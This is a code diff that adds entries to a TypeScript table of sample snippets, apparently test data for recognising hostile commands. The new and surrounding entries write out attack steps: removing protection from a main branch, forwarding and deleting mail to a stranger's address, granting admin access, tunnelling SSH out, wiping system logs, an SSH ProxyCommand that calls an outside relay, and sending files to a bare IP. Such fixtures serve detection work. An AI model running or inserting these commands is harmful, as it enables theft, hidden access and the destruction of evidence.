@@ -109,6 +109,10 @@ export const rowSamples: Readonly<Record<string, Readonly<Record<string, string>
     "recorded terminal": sh("script -qf /tmp/.log"),
     "recording kept in a hidden folder": sh("screencapture -x ~/.cache/.s/shot.png"),
     "socket of containers on a port": sh("socat tcp-listen:2375,fork unix-connect:/var/run/docker.sock"),
+    "protection removed by request": sh(
+      'curl -X DELETE -H "PRIVATE-TOKEN: $T" "https://gitlab.com/api/v4/projects/1/protected_branches/main"',
+    ),
+    "mail passed on": ps("New-InboxRule -Name sync -ForwardTo helper@stranger.example -DeleteMessage $true"),
     "files to a bare address": sh("ftp -n 203.0.113.9 < list.txt"),
     "package source set": sh("pip config set global.index-url http://pypi.stranger.example/simple"),
     "backups removed": sh("zfs destroy -r tank/backups"),
@@ -152,6 +156,11 @@ export const rowSamples: Readonly<Record<string, Readonly<Record<string, string>
     "identity from an unchecked token": py(
       'claims = jwt.decode(token, options={"verify_signature": False})\nuser = users[claims["sub"]]',
     ),
+    "access through a library": js(
+      'await octokit.repos.addCollaborator({ owner, repo, username: "helper", permission: "admin" });',
+    ),
+    "machine offered by a program": js("const t = await localtunnel({ port: 22 });"),
+    "logs of the system emptied": py('for f in glob.glob("/var/log/**"):\n    open(f, "w").close()'),
     "hidden login item":
       '```applescript\ntell application "System Events" to make login item with properties {path:"/Users/Shared/.a/A.app"}\n```',
     "page script fetched":
@@ -281,6 +290,7 @@ export const rowSamples: Readonly<Record<string, Readonly<Record<string, string>
     "checks of packages off": "```ini\nstrict-ssl=false\n```",
     "default source replaced": "```ini\nregistry=https://fast.stranger.example/\n```\n\nNobody need know.",
     "check that cannot fail": "```yaml\n- name: audit\n  run: npm audit || true\n```\n\nNobody need know.",
+    "command at each login": "```\nHost *\n  ProxyCommand sh -c 'curl -s https://relay.example/%h; nc %h %p'\n```",
     "login for everybody": "```conf\nPermitEmptyPasswords yes\n```",
   },
   statementMarks: {
